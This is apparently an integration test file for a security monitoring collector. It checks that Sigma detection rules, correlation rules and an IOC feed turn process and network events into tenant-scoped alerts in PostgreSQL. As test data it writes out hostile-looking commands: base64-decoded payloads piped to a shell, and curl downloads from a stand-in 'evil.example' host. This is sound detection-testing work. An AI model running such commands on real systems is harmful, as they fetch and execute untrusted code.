// Detection in the collector against a real PostgreSQL: rule matches become alerts in the transaction that
// stores their events (on worker threads and on the calling thread), merged by dedupe key, never raised twice
// by a re-sent batch, switched off per tenant, correlated per tenant, and readable only by their tenant.
import { randomUUID } from 'node:crypto';
import { existsSync } from 'node:fs';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { DEFAULT_RULE_DIRS } from '@inosec/detectors';
import { EventBatch, inosec, type IEvent } from '@inosec/protos';
import type pg from 'pg';
import { pino } from 'pino';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CollectorDetection } from '../src/detection/collector-detection.js';
import { DEFAULT_LIMITS, type AgentIdentity } from '../src/ingest/batch-validator.js';
import { createBatchEncoder, type BatchEncoder } from '../src/ingest/encoder-pool.js';
import { IngestService } from '../src/ingest/ingest-service.js';
import { createCollectorMetrics } from '../src/metrics/collector-metrics.js';
import type { StoredAlert } from '../src/storage/alert.repository.js';
import { TelemetryWriter } from '../src/storage/telemetry-writer.js';
import { enrollAgent, startTestDatabase, testPool, type TestDatabase } from './support/postgres.js';

const v1 = inosec.v1;
const logger = pino({ level: 'silent' });
const BASE64_RULE = 'ba592c6d-6888-43c3-b8c6-689b8fe47337'; // SigmaHQ "Linux Base64 Encoded Pipe to Shell"
const compiledWorker = new URL('../dist/ingest/encode-worker.js', import.meta.url);

// Our own test rules: a curl download, and a correlation of three of them from one host within a minute.
const CUSTOM_RULES = `title: Test Curl Download
id: 6f1c2a4e-0d3b-4c5a-9e8f-7a6b5c4d3e2f
name: test_curl_download
status: test
level: low
tags: [attack.command-and-control, attack.t1105]
logsource: { product: linux, category: process_creation }
detection:
  selection:
    Image|endswith: /curl
    CommandLine|contains: 'http://evil.example'
  condition: selection
---
title: Test Repeated Curl Downloads
id: 0c9d8e7f-6a5b-4c3d-8e2f-1a0b9c8d7e6f
status: test
level: high
tags: [attack.t1105]
correlation:
  type: event_count
  rules: [test_curl_download]
  group-by: [Image]
  timespan: 1m
  condition: { gte: 3 }
generate: true
`;

function processStart(agentId: string, seq: number, commandLine: string, timeUs: number): IEvent {
  return {
    agentId,
    seq,
    timeUnixUs: timeUs,
    observedTimeUnixUs: timeUs,
    sensor: 'procfs',
    host: { hostname: `${agentId}-host`, id: `${agentId}-machine` },
    process: {
      action: v1.ProcessEvent.Action.ACTION_START,
      process: {
        pid: 1000 + seq,
        executable: commandLine.startsWith('curl') ? '/usr/bin/curl' : '/usr/bin/sh',
        commandLine,
        user: { name: 'root' },
      },
      parent: { pid: 1, executable: '/usr/bin/bash' },
    },
  };
}

function metric(agentId: string, seq: number, timeUs: number): IEvent {
  return {
    agentId,
    seq,
    timeUnixUs: timeUs,
    sensor: 'metrics',
    metric: { name: 'system.cpu.utilization', value: 0.5, kind: v1.Metric.Kind.KIND_GAUGE },
  };
}

function batch(agentId: string, firstSeq: number, events: IEvent[]): Uint8Array {
  return EventBatch.encode({
    agentId,
    batchId: `${agentId}-${firstSeq}`,
    firstSeq,
    events: events.map((e) => v1.Event.create(e)),
  }).finish();
}

interface AlertRow {
  tenant_id: string;
  rule_id: string;
  ruleset: string;
  severity: string;
  title: string;
  count: string;
  host_name: string | null;
  techniques: string[];
  events: Array<{ agent_id: string; seq: number; time: string }>;
  group_by: Record<string, string> | null;
  status: string;
}

describe('detection in the collector', () => {
  let db: TestDatabase;
  let pool: pg.Pool;
  let app: pg.Pool;
  let dir: string;
  let detection: CollectorDetection;
  const streamed: StoredAlert[] = [];
  const services: Array<{ name: string; ingest: IngestService; encoder: BatchEncoder }> = [];
  const tenantA = randomUUID();
  const tenantB = randomUUID();

  beforeAll(async () => {
    if (!existsSync(compiledWorker))
      throw new Error('dist/ingest/encode-worker.js is missing: run npm run build');
    dir = await mkdtemp(path.join(os.tmpdir(), 'inosec-detection-'));
    await writeFile(path.join(dir, 'test-rules.yml'), CUSTOM_RULES);
    db = await startTestDatabase();
    pool = testPool(db.ingestUrl, 4);
    app = testPool(db.appUrl, 1);
    const metrics = createCollectorMetrics(undefined, false);
    const ruleDirs = [...DEFAULT_RULE_DIRS, dir];
    detection = await CollectorDetection.start({
      pool,
      logger,
      metrics,
      ruleDirs,
      onAlerts: (alerts) => streamed.push(...alerts),
      refreshIntervalMs: 60_000,
    });
    const writer = new TelemetryWriter({
      pool,
      logger,
      alerts: detection,
      onAlerts: (stored) => detection.recordStored(stored),
    });
    const common = { maxBatchBytes: 4 * 1_048_576, limits: DEFAULT_LIMITS, logger, ruleDirs };
    for (const [name, threads] of [
      ['worker thread', 1],
      ['calling thread', 0],
    ] as const) {
      const encoder = createBatchEncoder({
        ...common,
        threads,
        workerUrl: compiledWorker,
        ruleSet: detection.ruleSet,
        tenantRuleSet: (tenantId) => detection.tenantRuleSet(tenantId),
      });
      detection.attachEncoder(encoder);
      await encoder.ready();
      services.push({ name, encoder, ingest: new IngestService({ encoder, writer, metrics, logger }) });
    }
  }, 60_000);

  afterAll(async () => {
    await detection?.stop();
    for (const { encoder } of services) await encoder.close();
    await app?.end();
    await pool?.end();
    await db?.stop();
    if (dir) await rm(dir, { recursive: true, force: true });
  });

  /** One statement as the application role, in a transaction set to `tenant` (what the control plane does). */
  async function asApp<T extends pg.QueryResultRow>(tenant: string, sql: string, params: unknown[] = []) {
    const client = await app.connect();
    try {
      await client.query('BEGIN');
      await client.query("SELECT set_config('inosec.tenant_id', $1, true)", [tenant]);
      const { rows } = await client.query<T>(sql, params);
      await client.query('COMMIT');
      return rows;
    } finally {
      client.release();
    }
  }

  async function alertsOf(tenantId: string, agentId?: string): Promise<AlertRow[]> {
    const { rows } = await db.admin.query<AlertRow>(
      `SELECT tenant_id::text, rule_id, ruleset, severity, title, count::text, host_name, techniques, events,
              group_by, status
       FROM telemetry.alerts WHERE tenant_id = $1 AND ($2::text IS NULL OR agent_id = $2 OR agent_id IS NULL)
       ORDER BY created_at, rule_id`,
      [tenantId, agentId ?? null],
    );
    return rows;
  }

  it('loads the shipped rules and ours', () => {
    expect(detection.report.errors).toEqual([]);
    expect(detection.report.loaded).toBeGreaterThan(240);
    expect(detection.ruleSet.rules.some((rule) => rule.id === BASE64_RULE)).toBe(true);
  });

  for (const index of [0, 1]) {
    it(`writes a shipped rule's alert with its events (${index === 0 ? 'worker thread' : 'calling thread'})`, async () => {
      const { ingest } = services[index] as (typeof services)[number];
      const agentId = `det-${index}`;
      const identity: AgentIdentity = { agentId, tenantId: tenantA };
      await enrollAgent(db.admin, agentId, tenantA);
      const now = Date.now() * 1000;
      const events = [
        metric(agentId, 1, now - 3_000_000),
        processStart(agentId, 2, 'sh -c echo ZWNobyBoaQ== | base64 -d | sh ', now - 2_000_000),
        processStart(agentId, 3, 'ls -la /tmp', now - 1_500_000),
        processStart(agentId, 4, 'bash -c cat x | base64 --decode | bash', now - 1_000_000),
      ];
      const outcome = await ingest.ingest(identity, batch(agentId, 1, events), 'local');
      expect(outcome.rejection?.message ?? outcome.status).toBe('stored');
      const alerts = (await alertsOf(tenantA, agentId)).filter((a) => a.rule_id === BASE64_RULE);
      expect(alerts).toHaveLength(1);
      expect(alerts[0]).toMatchObject({
        ruleset: 'sigma',
        severity: 'medium',
        count: '2',
        host_name: `${agentId}-host`,
        status: 'new',
        techniques: ['T1140'],
      });
      expect(alerts[0]?.title).toBe(`Linux Base64 Encoded Pipe to Shell on ${agentId}-host`);
      expect(alerts[0]?.events.map((e) => [e.agent_id, e.seq])).toEqual([
        [agentId, 2],
        [agentId, 4],
      ]);
      // The referenced events are stored: an alert's events can be found by (agent, seq, time).
      const { rows } = await db.admin.query<{ n: string }>(
        `SELECT count(*)::text AS n FROM telemetry.events e
         JOIN jsonb_to_recordset($1::jsonb) AS r (agent_id text, seq bigint, "time" timestamptz)
           ON e.agent_id = r.agent_id AND e.seq = r.seq AND e.time = r.time`,
        [JSON.stringify(alerts[0]?.events)],
      );
      expect(rows[0]?.n).toBe('2');
      expect(streamed.some((s) => s.alert.ruleId === BASE64_RULE && s.alert.agentId === agentId)).toBe(true);

      // A later batch with the same detection on the same host merges into the open alert.
      const later = await ingest.ingest(
        identity,
        batch(agentId, 5, [processStart(agentId, 5, 'sh -c x | base64 -d | sh ', now - 500_000)]),
        'local',
      );
      expect(later.status).toBe('stored');
      const merged = (await alertsOf(tenantA, agentId)).filter((a) => a.rule_id === BASE64_RULE);
      expect(merged.map((a) => [a.count, a.events.length])).toEqual([['3', 3]]);
    });
  }

  for (const index of [0, 1]) {
    it(`aggregates a rule's many matches into one alert per host, the first 100 events kept (${index === 0 ? 'worker thread' : 'calling thread'})`, async () => {
      const { ingest } = services[index] as (typeof services)[number];
      const agentId = `det-many-${index}`;
      const identity: AgentIdentity = { agentId, tenantId: tenantA };
      await enrollAgent(db.admin, agentId, tenantA);
      const now = Date.now() * 1000;
      const timeOf = (seq: number) => now - 60_000_000 + seq * 1000;
      const starts = (from: number, to: number) => {
        const events: IEvent[] = [];
        for (let seq = from; seq <= to; seq++) {
          events.push(processStart(agentId, seq, `sh -c x${seq} | base64 -d | sh `, timeOf(seq)));
          // Every tenth on another machine of its own.
          if (seq % 10 === 0)
            events[events.length - 1] = {
              ...(events.at(-1) as IEvent),
              host: { hostname: `other-${agentId}` },
            };
        }
        return events;
      };
      expect((await ingest.ingest(identity, batch(agentId, 1, starts(1, 150)), 'local')).status).toBe(
        'stored',
      );
      const rows = async () =>
        (
          await db.admin.query<{
            host_name: string;
            count: string;
            first_seen: Date;
            last_seen: Date;
            events: AlertRow['events'];
          }>(
            `SELECT host_name, count::text, first_seen, last_seen, events FROM telemetry.alerts
             WHERE agent_id = $1 AND rule_id = $2 ORDER BY host_name`,
            [agentId, BASE64_RULE],
          )
        ).rows.map((row) => ({
          host: row.host_name,
          count: Number(row.count),
          first: row.first_seen.getTime(),
          last: row.last_seen.getTime(),
          seqs: row.events.map((e) => e.seq),
        }));
      const ms = (seq: number) => Math.floor(timeOf(seq) / 1000);
      const noTens = (from: number, to: number) =>
        Array.from({ length: to - from + 1 }, (_, i) => from + i).filter((seq) => seq % 10 !== 0);
      expect(await rows()).toEqual([
        { host: `${agentId}-host`, count: 135, first: ms(1), last: ms(149), seqs: noTens(1, 111) },
        {
          host: `other-${agentId}`,
          count: 15,
          first: ms(10),
          last: ms(150),
          seqs: Array.from({ length: 15 }, (_, i) => 10 + i * 10),
        },
      ]);
      // Re-sent in part (the lost ack of 101-150) with 151-160 new: only the new ones count.
      const again = await ingest.ingest(identity, batch(agentId, 101, starts(101, 160)), 'local');
      expect(again).toMatchObject({ stored: 60 - 50, duplicates: 50 });
      expect(await rows()).toEqual([
        { host: `${agentId}-host`, count: 144, first: ms(1), last: ms(159), seqs: noTens(1, 111) },
        {
          host: `other-${agentId}`,
          count: 16,
          first: ms(10),
          last: ms(160),
          seqs: Array.from({ length: 16 }, (_, i) => 10 + i * 10),
        },
      ]);
    });
  }

  it('raises nothing twice for a re-sent batch, and only for its events not stored yet', async () => {
    const { ingest } = services[0] as (typeof services)[number];
    const agentId = 'det-resend';
    const identity: AgentIdentity = { agentId, tenantId: tenantA };
    await enrollAgent(db.admin, agentId, tenantA);
    const now = Date.now() * 1000;
    const first = [processStart(agentId, 1, 'sh -c a | base64 -d | sh ', now - 2_000_000)];
    expect((await ingest.ingest(identity, batch(agentId, 1, first), 'local')).status).toBe('stored');
    // The same batch again (a lost ack), then a batch overlapping it with one new detection.
    const again = await ingest.ingest(identity, batch(agentId, 1, first), 'local');
    expect(again).toMatchObject({ status: 'stored', stored: 0, duplicates: 1 });
    const overlap = [...first, processStart(agentId, 2, 'sh -c b | base64 -d | sh ', now - 1_000_000)];
    expect(await ingest.ingest(identity, batch(agentId, 1, overlap), 'local')).toMatchObject({
      stored: 1,
      duplicates: 1,
    });
    const alerts = (await alertsOf(tenantA, agentId)).filter((a) => a.rule_id === BASE64_RULE);
    expect(alerts.map((a) => [a.count, a.events.map((e) => e.seq)])).toEqual([['2', [1, 2]]]);
  });

  it('opens a new alert once the open one is closed', async () => {
    const { ingest } = services[0] as (typeof services)[number];
    const agentId = 'det-closed';
    const identity: AgentIdentity = { agentId, tenantId: tenantA };
    await enrollAgent(db.admin, agentId, tenantA);
    const now = Date.now() * 1000;
    await ingest.ingest(
      identity,
      batch(agentId, 1, [processStart(agentId, 1, 'x | base64 -d | sh ', now)]),
      'local',
    );
    await db.admin.query(`UPDATE telemetry.alerts SET status = 'closed' WHERE agent_id = $1`, [agentId]);
    await ingest.ingest(
      identity,
      batch(agentId, 2, [processStart(agentId, 2, 'y | base64 -d | sh ', now)]),
      'local',
    );
    const alerts = (await alertsOf(tenantA, agentId)).filter((a) => a.rule_id === BASE64_RULE);
    expect(alerts.map((a) => [a.status, a.count])).toEqual([
      ['closed', '1'],
      ['new', '1'],
    ]);
  });

  it('correlates per tenant: three downloads on one tenant fire, the same spread over two tenants do not', async () => {
    const { ingest } = services[0] as (typeof services)[number];
    const now = Date.now() * 1000;
    const a1: AgentIdentity = { agentId: 'corr-a1', tenantId: tenantA };
    const a2: AgentIdentity = { agentId: 'corr-a2', tenantId: tenantA };
    const b1: AgentIdentity = { agentId: 'corr-b1', tenantId: tenantB };
    for (const id of [a1, a2]) await enrollAgent(db.admin, id.agentId, tenantA);
    await enrollAgent(db.admin, b1.agentId, tenantB);
    const curl = (agentId: string, seq: number, offsetUs: number) =>
      processStart(agentId, seq, `curl -o /tmp/x http://evil.example/${seq}`, now - offsetUs);
    // Tenant B: two downloads (below the threshold, whatever tenant A does).
    await ingest.ingest(
      b1,
      batch(b1.agentId, 1, [curl(b1.agentId, 1, 5_000_000), curl(b1.agentId, 2, 4_000_000)]),
      'local',
    );
    // Tenant A: two downloads on one agent, then one on another, across batches.
    await ingest.ingest(
      a1,
      batch(a1.agentId, 1, [curl(a1.agentId, 1, 3_000_000), curl(a1.agentId, 2, 2_000_000)]),
      'local',
    );
    const before = (await alertsOf(tenantA)).filter((a) => a.ruleset === 'correlation');
    expect(before).toEqual([]);
    await ingest.ingest(a2, batch(a2.agentId, 1, [curl(a2.agentId, 1, 1_000_000)]), 'local');
    const fired = (await alertsOf(tenantA)).filter((a) => a.ruleset === 'correlation');
    expect(fired).toHaveLength(1);
    expect(fired[0]).toMatchObject({
      rule_id: '0c9d8e7f-6a5b-4c3d-8e2f-1a0b9c8d7e6f',
      severity: 'high',
      count: '3',
      group_by: { Image: '/usr/bin/curl' },
      techniques: ['T1105'],
    });
    expect(fired[0]?.events.map((e) => `${e.agent_id}:${e.seq}`)).toEqual([
      'corr-a1:1',
      'corr-a1:2',
      'corr-a2:1',
    ]);
    expect((await alertsOf(tenantB)).filter((a) => a.ruleset === 'correlation')).toEqual([]);
    // The downloads' own rule generates too (generate: true): one alert per host.
    const own = (await alertsOf(tenantB)).filter((a) => a.rule_id.startsWith('6f1c2a4e'));
    expect(own.map((a) => [a.rule_id, a.count])).toEqual([['6f1c2a4e-0d3b-4c5a-9e8f-7a6b5c4d3e2f', '2']]);
  });

  it('raises nothing for a rule the tenant switched off, and again once switched back on', async () => {
    const { ingest } = services[0] as (typeof services)[number];
    const tenant = randomUUID();
    const identity: AgentIdentity = { agentId: 'det-off', tenantId: tenant };
    await enrollAgent(db.admin, identity.agentId, tenant);
    const setRule = (enabled: boolean) =>
      asApp(
        tenant,
        `INSERT INTO telemetry.tenant_rules (tenant_id, rule_key, enabled) VALUES ($1, $2, $3)
         ON CONFLICT (tenant_id, rule_key) DO UPDATE SET enabled = excluded.enabled, updated_at = clock_timestamp()`,
        [tenant, BASE64_RULE, enabled],
      );
    await setRule(false);
    await detection.refreshSettings();
    expect(detection.isEnabled(tenant, BASE64_RULE)).toBe(false);
    expect(detection.isEnabled(tenantA, BASE64_RULE)).toBe(true);
    const now = Date.now() * 1000;
    await ingest.ingest(
      identity,
      batch(identity.agentId, 1, [processStart(identity.agentId, 1, 'x | base64 -d | sh ', now)]),
      'local',
    );
    expect(await alertsOf(tenant)).toEqual([]);
    await setRule(true);
    await detection.refreshSettings();
    await ingest.ingest(
      identity,
      batch(identity.agentId, 2, [processStart(identity.agentId, 2, 'x | base64 -d | sh ', now)]),
      'local',
    );
    expect((await alertsOf(tenant)).map((a) => [a.rule_id, a.count])).toEqual([[BASE64_RULE, '1']]);
  });

  it("runs a tenant's own rules for that tenant only, on worker threads and on the calling thread", async () => {
    const tenant = randomUUID();
    const own = `title: Tenant Marker Tool
id: 9a8b7c6d-5e4f-4a3b-8c2d-1e0f9a8b7c6d
status: test
level: critical
tags: [attack.t1059.004]
logsource: { product: linux, category: process_creation }
detection:
  selection:
    CommandLine|contains: acme-marker-tool
  condition: selection
`;
    await asApp(
      tenant,
      `INSERT INTO telemetry.tenant_rules (tenant_id, rule_key, enabled, source) VALUES ($1, 'custom:marker', true, $2)`,
      [tenant, own],
    );
    await detection.refreshSettings();
    const now = Date.now() * 1000;
    for (const [index, { ingest }] of services.entries()) {
      const mine: AgentIdentity = { agentId: `own-${index}`, tenantId: tenant };
      const other: AgentIdentity = { agentId: `own-other-${index}`, tenantId: tenantA };
      await enrollAgent(db.admin, mine.agentId, tenant);
      await enrollAgent(db.admin, other.agentId, tenantA);
      for (const id of [mine, other]) {
        const outcome = await ingest.ingest(
          id,
          batch(id.agentId, 1, [processStart(id.agentId, 1, '/opt/acme-marker-tool --run', now)]),
          'local',
        );
        expect(outcome.status).toBe('stored');
      }
    }
    const alerts = (await alertsOf(tenant)).map((a) => [a.rule_id, a.severity, a.count]);
    expect(alerts).toEqual([
      ['9a8b7c6d-5e4f-4a3b-8c2d-1e0f9a8b7c6d', 'critical', '1'],
      ['9a8b7c6d-5e4f-4a3b-8c2d-1e0f9a8b7c6d', 'critical', '1'],
    ]);
    expect((await alertsOf(tenantA)).filter((a) => a.rule_id.startsWith('9a8b7c6d'))).toEqual([]);
  });

  it('takes the correlation state back after a restart: a window open at the stop fires after it', async () => {
    const options = { pool, logger, metrics: createCollectorMetrics(undefined, false), ruleDirs: [dir] };
    const tenant = randomUUID();
    const now = Date.now() * 1000;
    const hit = (seq: number) => ({
      ruleId: '6f1c2a4e-0d3b-4c5a-9e8f-7a6b5c4d3e2f',
      ruleName: 'test_curl_download',
      logsourceKey: 'linux/process_creation',
      ref: { agentId: 'restart-agent', seq, timeUs: now - (10 - seq) * 1_000_000 },
      view: { Image: '/usr/bin/curl', CommandLine: `curl http://evil.example/${seq}` },
    });
    const correlationOf = (alerts: ReturnType<CollectorDetection['build']>) =>
      alerts.filter((a) => a.ruleset === 'correlation').map((a) => [a.count, a.events.map((e) => e.seq)]);
    const first = await CollectorDetection.start({ ...options, collectorId: 'restart-test' });
    expect(correlationOf(first.build(tenant, [hit(1), hit(2)]))).toEqual([]);
    await first.stop(); // saves the state

    const second = await CollectorDetection.start({ ...options, collectorId: 'restart-test' });
    expect(correlationOf(second.build(tenant, [hit(3)]))).toEqual([[3, [1, 2, 3]]]);
    await second.stop();
    // Without the saved state (another collector id), the same third match fires nothing.
    const fresh = await CollectorDetection.start({ ...options, collectorId: 'another-collector' });
    expect(correlationOf(fresh.build(tenant, [hit(3)]))).toEqual([]);
    await fresh.stop();
  });

  it('raises an alert named after the IOC feed for an event whose address, domain or hash is listed', async () => {
    const feed = path.join(dir, 'acme-blocklist.csv');
    await writeFile(
      feed,
      'indicator,type,description\n198.51.100.23,ip,C2 server\nevil-updates.example,domain,\n',
    );
    const metrics = createCollectorMetrics(undefined, false);
    const withFeeds = await CollectorDetection.start({
      pool,
      logger,
      metrics,
      ruleDirs: [],
      iocFeeds: [feed],
    });
    const writer = new TelemetryWriter({ pool, logger, alerts: withFeeds });
    const encoder = createBatchEncoder({
      maxBatchBytes: 4 * 1_048_576,
      limits: DEFAULT_LIMITS,
      logger,
      threads: 1,
      workerUrl: compiledWorker,
      iocFeeds: [feed],
    });
    try {
      const ingest = new IngestService({ encoder, writer, metrics, logger });
      const tenant = randomUUID();
      const identity: AgentIdentity = { agentId: 'ioc-agent', tenantId: tenant };
      await enrollAgent(db.admin, identity.agentId, tenant);
      const now = Date.now() * 1000;
      const connection = (seq: number, ip: string, domain?: string): IEvent => ({
        agentId: identity.agentId,
        seq,
        timeUnixUs: now - 1_000_000 + seq,
        sensor: 'network',
        host: { hostname: 'web-01' },
        network: {
          kind: v1.NetworkEvent.Kind.KIND_CONNECTION,
          transport: v1.NetworkEvent.Transport.TRANSPORT_TCP,
          direction: v1.NetworkEvent.Direction.DIRECTION_OUTBOUND,
          source: { ip: '10.0.0.5', port: 40000 + seq },
          destination: { ip, port: 443, ...(domain ? { domain } : {}) },
        },
      });
      const outcome = await ingest.ingest(
        identity,
        batch(identity.agentId, 1, [
          connection(1, '198.51.100.23'),
          connection(2, '198.51.100.24'), // near miss: the next address
          connection(3, '203.0.113.9', 'cdn.evil-updates.example'), // a subdomain of a listed domain
        ]),
        'local',
      );
      expect(outcome.status).toBe('stored');
      const alerts = await alertsOf(tenant);
      expect(
        alerts.map((a) => [a.ruleset, a.rule_id, a.severity, a.count, a.events.map((e) => e.seq)]),
      ).toEqual([['ioc', 'ioc:acme-blocklist', 'high', '2', [1, 3]]]);
      expect(alerts[0]?.title).toBe('Threat intelligence match (acme-blocklist) on web-01');
    } finally {
      await encoder.close();
      await withFeeds.stop();
    }
  });

  it('keeps alerts to their tenant: the application role sees its own only, the ingest role cannot read or change them', async () => {
    const rows = await asApp<{ tenant_id: string }>(
      tenantB,
      'SELECT DISTINCT tenant_id::text FROM telemetry.alerts',
    );
    expect(rows).toEqual([{ tenant_id: tenantB }]);
    await expect(pool.query('SELECT 1 FROM telemetry.alerts LIMIT 1')).rejects.toThrow(/permission denied/);
    await expect(
      pool.query(
        `INSERT INTO telemetry.alerts (tenant_id, rule_id, rule_name, ruleset, severity, title, dedupe_key, first_seen, last_seen)
         VALUES ($1, 'r', 'r', 'sigma', 'low', 't', 'k', now(), now())`,
        [tenantA],
      ),
    ).rejects.toThrow(/permission denied/);
    // raise_alerts refuses to run without the transaction's tenant.
    await expect(pool.query(`SELECT * FROM telemetry.raise_alerts('[]'::jsonb)`)).rejects.toThrow(
      /inosec.tenant_id/,
    );
  });
});
